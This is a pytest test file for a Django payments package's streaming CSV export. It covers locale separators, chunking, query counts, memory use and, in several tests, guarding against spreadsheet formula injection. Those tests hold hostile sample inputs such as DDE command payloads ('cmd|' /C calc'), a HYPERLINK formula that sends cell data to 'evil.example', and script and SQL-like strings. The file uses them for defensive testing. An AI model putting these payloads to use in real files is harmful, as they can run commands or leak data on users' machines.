import asyncio
import csv
import io
import re
import time
import tracemalloc
from collections.abc import Iterator
from datetime import date, datetime, timedelta, timezone
from decimal import Decimal
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from django.contrib.auth.models import User
from django.contrib.contenttypes.models import ContentType
from django.http import StreamingHttpResponse
from django.utils import timezone as site_time
from django.utils import translation
from django.utils.functional import lazystr
from django.utils.translation import gettext
from hypothesis import given, settings
from hypothesis import strategies as st

from django_paiementpro.admin import export
from django_paiementpro.admin.export import csv_response, export_payments
from django_paiementpro.enums import Channel, Status
from django_paiementpro.models import Payment
from django_paiementpro.testing import make_payment
from tests.conftest import Statements
from tests.host.models import Order
from tests.test_admin import flag

NOON = datetime(2026, 11, 25, 12, tzinfo=timezone.utc)


def read(response: StreamingHttpResponse, delimiter: str = ",") -> list[list[str]]:
    text = b"".join(response).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter, strict=True))


def written(value: object, delimiter: str = ",") -> str:
    """Return how a value is written, between two others that must not feel it."""
    [[before, cell, after]] = read(csv_response([("before", value, "after")], "f.csv"), delimiter)
    assert (before, after) == ("before", "after")
    return cell


def rows_of(response: StreamingHttpResponse, delimiter: str = ",") -> list[dict[str, str]]:
    headers, *rows = read(response, delimiter)
    return [dict(zip(headers, row, strict=True)) for row in rows]


# The file.


def test_file_is_saved_and_never_kept() -> None:
    response = csv_response([("a", 1)], "payments.csv")

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="payments.csv"'
    assert response["Cache-Control"] == "no-store"
    assert b"".join(response) == b"\xef\xbb\xbfa,1\r\n"


@pytest.mark.parametrize(
    ("language", "line"), [("fr", "a;1,5"), ("fr-ci", "a;1,5"), ("en", "a,1.5"), ("en-gb", "a,1.5")]
)
def test_separator_and_decimal_mark_are_those_of_the_language(language: str, line: str) -> None:
    with translation.override(language):
        response = csv_response([("a", 1.5)], "f.csv")

    assert b"".join(response).decode("utf-8-sig") == f"{line}\r\n"


def test_file_is_in_english_where_no_language_is_active() -> None:
    translation.deactivate_all()

    assert b"".join(csv_response([("é", None, True)], "f.csv")).decode("utf-8-sig") == "é,,yes\r\n"


def test_file_without_rows_is_empty() -> None:
    assert read(csv_response([], "f.csv")) == []


def test_language_and_time_zone_are_those_of_the_request(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(export, "CHUNK_ROWS", 1)

    def rows() -> Iterator[tuple[object, ...]]:
        for _ in range(3):
            yield gettext("Paid"), Status.SUCCEEDED.label, NOON, site_time.localtime(NOON).hour

    with translation.override("fr"), site_time.override(ZoneInfo("Africa/Porto-Novo")):
        response = csv_response(rows(), "f.csv")
    seen = []
    lines = []
    for chunk in response:
        seen.append((translation.get_language(), site_time.get_current_timezone_name()))
        lines.append(chunk.decode())

    assert seen == [("en", "Africa/Abidjan")] * 4
    assert lines == ["\ufeff"] + ["Payé;Payé;2026-11-25 13:00:00;13\r\n"] * 3


def test_rows_are_sent_in_chunks() -> None:
    chunks = list(csv_response(([number] for number in range(1_001)), "f.csv"))

    assert [chunk.count(b"\r\n") for chunk in chunks] == [0, 500, 500, 1]


def test_rows_are_not_read_ahead() -> None:
    asked = []

    def rows() -> Iterator[list[int]]:
        for number in range(1_200):
            asked.append(number)
            yield [number]

    response = csv_response(rows(), "f.csv")
    assert asked == []
    chunks = iter(response)
    next(chunks), next(chunks)
    assert len(asked) == 500
    assert len(list(chunks)) == 2


def test_asgi_server_gets_a_stream() -> None:
    asked = []

    def rows() -> Iterator[list[int]]:
        for number in range(1_200):
            asked.append(number)
            yield [number]

    async def serve(response: StreamingHttpResponse) -> list[tuple[int, int]]:
        return [(chunk.count(b"\r\n"), len(asked)) async for chunk in response]

    assert asyncio.run(serve(csv_response(rows(), "f.csv"))) == [(0, 0), (500, 500), (500, 1_000), (200, 1_200)]


# The cells.


@pytest.mark.parametrize(
    ("value", "text"),
    [
        (12500, "12500"),
        (-12500, "-12500"),
        (10**15, "1000000000000000"),
        (0.25, "0.25"),
        (Decimal("-12.50"), "-12.50"),
        (None, ""),
        ("", ""),
        (True, "yes"),
        (False, "no"),
        (date(2026, 1, 2), "2026-01-02"),
        (NOON, "2026-11-25 12:00:00"),
        (NOON.replace(microsecond=999_999), "2026-11-25 12:00:00"),
        (Channel.ORANGE_CI, "OMCIV2"),
        (Channel.ORANGE_CI.label, "Orange Money Côte d’Ivoire"),
        (lazystr("=1+1"), "'=1+1"),
    ],
)
def test_values_are_written_as_excel_reads_them(value: object, text: str) -> None:
    assert written(value) == text


def test_numbers_are_not_quoted() -> None:
    with translation.override("fr"):
        assert b"".join(csv_response([(12500, -1, Decimal("0.5"))], "f.csv")) == b"\xef\xbb\xbf12500;-1;0,5\r\n"


@pytest.mark.parametrize(
    "text",
    [
        *("=1+1", "+A1", "-2+3+cmd|' /C calc'!A0", "@SUM(1;2)", "=", "\u200b=1+1", "\ufeff=1+1", "\x01=1+1"),
        *("\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(1)", " =1+1", "\u00a0=1+1", "+1e5", "-x", "-1\x00+cmd"),
        '=HYPERLINK("https://evil.example/?" & A1, "Click")',
    ],
)
@pytest.mark.parametrize(("language", "delimiter"), [("fr", ";"), ("en", ",")])
def test_formula_is_guarded(text: str, language: str, delimiter: str) -> None:
    with translation.override(language):
        assert written(text, delimiter) == f"'{text}".replace("\x00", "")


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("Awa,=1+1,", "Awa,'=1+1,"),
        ("Awa; @SUM(1)", "Awa;' @SUM(1)"),
        ("=1;-1;+A1", "'=1;-1;'+A1"),
        (",,=1", ",,'=1"),
        ("Awa,\n=1", "Awa,\n'=1"),
        ("\n=1+1", "\n'=1+1"),
        ("\t=1+1", "\t'=1+1"),
        ("\r\n +A1", "\r\n' +A1"),
        ("Awa\t=1+1", "Awa\t'=1+1"),
        ('Awa,"=1+1"', 'Awa,\'"=1+1"'),
        ("-5\n@SUM(1)", "-5\n'@SUM(1)"),
    ],
)
def test_formula_is_guarded_if_the_spreadsheet_expects_the_other_separator(text: str, cell: str) -> None:
    with translation.override("fr"):
        assert written(text, ";") == cell
    assert written(text) == cell


@pytest.mark.parametrize(
    "text",
    [
        *("0707123456", "07 07 12 34 56", "+225 07 07 12 34 56", "(+225) 07-07", "+2250707123456", "-1", "+", "- "),
        *("Commande 42; -5 %", "-12,50", "-12.50", "1, -2, +3", "2026-11-25", "-25/12/2026", "9210824147867", "12e45"),
        *("Awa", "Koné-Traoré", "N’Guessan", "O'Neil", "Order 12", "PP-F324", "awa+shop@example.com", "MAR1", "5%"),
        *("; drop table", "<script>alert(1)</script>", "a;b,c", 'say "no"', "…", "a=b", "1+1=2?", "'=1+1", '"=1+1"'),
        *("\tx", "\rx", "\nx", "\r\nx", " \t x", "0707123456\n-5 %", "Total\t-12 500"),
        *("٣ oranges", "日本", "👍🏽", "a’b “c”", "a\u00a0b", "one\ntwo", "one\ttwo", "x\r\ny", "\u2028x"),
    ],
)
@pytest.mark.parametrize(("language", "delimiter"), [("fr", ";"), ("en", ",")])
def test_other_text_is_unchanged(text: str, language: str, delimiter: str) -> None:
    with translation.override(language):
        assert written(text, delimiter) == text


#: A cell that a spreadsheet would run. A number, a phone number or a percentage does not run, nor does one that is
#: followed by our quotation mark, or by a separator that no formula has there.
RUNS = re.compile(r"[\s\x00-\x1f\u200b\ufeff]*(?![+-][\d\s().:/%-]*(?:\"*\Z|\"*[,;\t\r\n]))[=+@-]")


@given(st.text("=+-@,;\t\r\n\"'  aA1|!(%.\u200b", max_size=12), st.sampled_from([("fr", ";"), ("en", ",")]))
@settings(max_examples=500)
def test_no_spreadsheet_finds_a_formula(text: str, site: tuple[str, str]) -> None:
    """Whatever separator it expects, whether it knows quotation marks or not."""
    language, _delimiter = site
    with translation.override(language):
        line = b"".join(csv_response([("Awa", text, "12500")], "f.csv")).decode("utf-8-sig")
    for delimiter in ",;\t":
        for quoting in (csv.QUOTE_MINIMAL, csv.QUOTE_NONE):
            rows = csv.reader(io.StringIO(line, newline=""), delimiter=delimiter, quoting=quoting)
            assert [cell for row in rows for cell in row if RUNS.match(cell)] == []


def test_lone_surrogate_is_replaced() -> None:
    assert written("\ud83d alone") == "? alone"


# Texts for which a pattern that backtracks takes very long.
@pytest.mark.parametrize("unit", [" ", "\t", "1", "-1", "-1 ", ", ", ",=", ",-1", ",-", "; ", "\u00a0", '"', "é1"])
def test_time_grows_linearly_with_the_text(unit: str) -> None:
    began = time.process_time()

    assert written(unit * (80_000 // len(unit)) + "x").endswith("x")
    assert time.process_time() - began < 2


# The payments.

HEADERS = [
    *("Reference", "Status", "Amount", "Currency", "Amount refunded", "Payment method", "Merchant", "Gateway id"),
    *("Order", "Description", "First name", "Last name", "E-mail", "Phone", "Created", "Page opened", "Settled"),
    *("Settled by", "Attempts", "To review", "Findings"),
]


@pytest.mark.django_db
def test_payment_is_a_row() -> None:
    order = Order.objects.create()
    payment = make_payment(
        reference="A1",
        status="succeeded",
        refunded_amount=500,
        content_object=order,
        channel="WAVECI",
        gateway_channel="OMCIV2",
        gateway_id="9210824147867",
        created_at=NOON,
        initialized_at=NOON + timedelta(minutes=1),
        settled_at=NOON + timedelta(hours=12),
        settled_by="staff",
        attempt=2,
    )
    flag(payment, "amount_mismatch", "1 != 12500")
    flag(payment, "paid_twice", "")
    flag(payment, "something", "else")
    flag(payment, "unknown_code", "reviewed", reviewed_at=NOON)

    with site_time.override(ZoneInfo("Africa/Porto-Novo")):
        headers, row = read(export_payments(Payment.objects.all()))

    assert headers == HEADERS
    assert row == [
        *("A1", "Paid", "12500", "XOF", "500", "Orange Money Côte d’Ivoire", "PP-F324", "9210824147867"),
        *(f"Order {order.pk}", "Order 1", "Awa", "Koné", "awa@example.com", "07 07 12 34 56"),
        *("2026-11-25 13:00:00", "2026-11-25 13:01:00", "2026-11-26 01:00:00", "Staff", "2", "yes"),
        "Another amount: 1 instead of 12500; Paid twice; something: else",
    ]


@pytest.mark.django_db
def test_payment_that_has_not_begun_has_empty_cells() -> None:
    make_payment(reference="A1")

    [row] = rows_of(export_payments(Payment.objects.all()))

    assert {header for header, cell in row.items() if cell == ""} == {
        *("Payment method", "Gateway id", "Order", "Page opened", "Settled", "Settled by", "Findings")
    }
    assert row["To review"] == "no"


@pytest.mark.django_db
def test_export_is_translated() -> None:
    flag(make_payment(status="failed", settled_by="notification", gateway_channel="OMSN"), "paid_twice", "2")

    with translation.override("fr"):
        response = export_payments(Payment.objects.all())
    [row] = rows_of(response, ";")

    assert row["Statut"] == "Non payé"
    assert row["Conclu par"] == "Notification de la passerelle"
    assert row["Montant"] == "12500"
    assert row["Téléphone"] == "07 07 12 34 56"
    assert row["À vérifier"] == "oui"
    assert "Payé deux fois\u00a0: 2" in row.values()
    assert "Orange Money Sénégal" in row.values()


@pytest.mark.django_db
def test_unknown_values_are_exported_unchanged() -> None:
    make_payment(status="frozen", settled_by="oracle", channel="NEWPAY")

    [row] = rows_of(export_payments(Payment.objects.all()))

    assert (row["Status"], row["Settled by"], row["Payment method"]) == ("frozen", "oracle", "NEWPAY")


@pytest.mark.django_db
def test_payers_cannot_write_formulas() -> None:
    payment = make_payment(
        description='=HYPERLINK("https://evil.example/?x="&A1,"Receipt")',
        customer_first_name="+A1",
        customer_last_name='"; drop\n@SUM(1)',
        customer_email="@SUM(1+1)*cmd|' /C calc'!A0",
        gateway_channel="<script>",
        gateway_id="-1",
        object_id="=2",
    )
    flag(payment, "=1\r\n", "=2")

    [row] = rows_of(export_payments(Payment.objects.all()))

    assert row["Description"] == '\'=HYPERLINK("https://evil.example/?x="&A1,"Receipt")'
    assert row["First name"] == "'+A1"
    assert row["Last name"] == "\"; drop\n'@SUM(1)"
    assert row["E-mail"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert row["Payment method"] == "<script>"
    assert row["Gateway id"] == "-1"
    assert row["Order"] == "'=2"
    assert row["Findings"] == "'=1; : =2"


@pytest.fixture
def gone() -> Iterator[ContentType]:
    """The kind of an order whose app has been removed."""
    yield ContentType.objects.create(app_label="gone", model="thing")
    ContentType.objects.clear_cache()


@pytest.mark.django_db
def test_orders_take_one_query_per_model(gone: ContentType, statements: Statements) -> None:
    user, order = User.objects.create(), Order.objects.create()
    for number in range(3):
        make_payment(content_type=gone, object_id=f"A{number}")
        make_payment(content_object=order)
        make_payment(content_object=user)
    make_payment(object_id="alone")
    ContentType.objects.clear_cache()

    with statements:
        orders = [row["Order"] for row in rows_of(export_payments(Payment.objects.all()))]

    of_models = [f"User {user.pk}", f"Order {order.pk}"]
    assert orders == ["alone", *of_models, "A2", *of_models, "A1", *of_models, "A0"]
    assert len(statements) == 1 + 3


def fill(count: int, **values: Any) -> None:
    """Store payments of a shop whose clock stands still every few rows, and was ahead at times."""
    Payment.objects.bulk_create(
        Payment(
            reference=f"{number:06d}x",
            amount=100 + number,
            description="x" * 200,
            created_at=NOON + timedelta(seconds=number // 7 if number % 50 else 900),
            **values,
        )
        for number in range(count)
    )


@pytest.mark.django_db
@pytest.mark.parametrize("count", [0, 1, 9, 10, 11, 20, 95])
def test_every_payment_is_exported_once_newest_first(count: int, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(export, "PAGE_ROWS", 10)
    fill(count)

    references = [row["Reference"] for row in rows_of(export_payments(Payment.objects.order_by("amount")))]

    assert references == list(Payment.objects.order_by("-created_at", "-pk").values_list("reference", flat=True))
    assert len(references) == count


@pytest.mark.django_db
def test_query_count_grows_with_pages_only(statements: Statements, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(export, "PAGE_ROWS", 20)
    fill(95)
    payments = Payment.objects.select_related("user", "content_type").prefetch_related("events")

    with statements:
        response = export_payments(payments)
        assert statements == []
        assert len(read(response)) == 96

    assert len(statements) == 5
    assert all("LIMIT 20" in sql and "JOIN" not in sql for sql in statements)


@pytest.mark.django_db
def test_findings_of_a_page_take_one_query(statements: Statements, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(export, "PAGE_ROWS", 20)
    fill(50)
    for payment in Payment.objects.filter(amount__gte=130):
        flag(payment, detail=str(payment.amount))
        flag(payment, "paid_twice", "r")

    with statements:
        rows = rows_of(export_payments(Payment.objects.order_by("created_at")))

    for row in rows:
        is_flagged = int(row["Amount"]) >= 130
        assert row["Findings"] == (f"Unknown response code: {row['Amount']}; Paid twice: r" if is_flagged else "")
    assert len([sql for sql in statements if "paiementpro_finding" in sql]) == 2
    assert len(statements) == 3 + 2


@pytest.mark.django_db
def test_export_has_what_the_list_was_filtered_to(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(export, "PAGE_ROWS", 3)
    fill(40)
    some = Payment.objects.filter(amount__in=range(100, 140, 4))
    some.update(status="failed", gateway_channel="OMCIV2")
    chosen = list(some.values_list("pk", flat=True))
    operator = Payment.objects.filter(effective_channel="OMCIV2")
    period = Payment.objects.filter(created_at__gte=NOON, created_at__lt=NOON + timedelta(seconds=3))

    for queryset in (some, Payment.objects.filter(status="failed"), operator, Payment.objects.filter(pk__in=chosen)):
        assert [row["Payment method"] for row in rows_of(export_payments(queryset))] == [
            "Orange Money Côte d’Ivoire"
        ] * 10
    assert len(rows_of(export_payments(period))) == period.count() == 20


@pytest.mark.django_db
def test_memory_does_not_grow_with_the_rows(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(export, "PAGE_ROWS", 50)
    monkeypatch.setattr(export, "CHUNK_ROWS", 50)
    fill(2_000)

    def peak(count: int) -> int:
        tracemalloc.start()
        chunks = export_payments(Payment.objects.filter(amount__lt=100 + count))
        assert sum(chunk.count(b"\r\n") for chunk in chunks) == 1 + count
        _now, peak = tracemalloc.get_traced_memory()
        tracemalloc.stop()
        return peak

    peak(100)  # what is kept for good: translations, compiled patterns
    assert peak(2_000) < 1.5 * peak(100)


@pytest.mark.parametrize("zone", ["Pacific/Kiritimati", "Etc/GMT+12"])
@pytest.mark.parametrize(("language", "stem"), [("en", "payments"), ("fr", "paiements")])
def test_name_has_the_date_of_the_site(zone: str, language: str, stem: str) -> None:
    with translation.override(language), site_time.override(ZoneInfo(zone)):
        response = export_payments(Payment.objects.none())

    today = datetime.now(tz=ZoneInfo(zone)).date().isoformat()
    assert response["Content-Disposition"] == f'attachment; filename="{stem}-{today}.csv"'
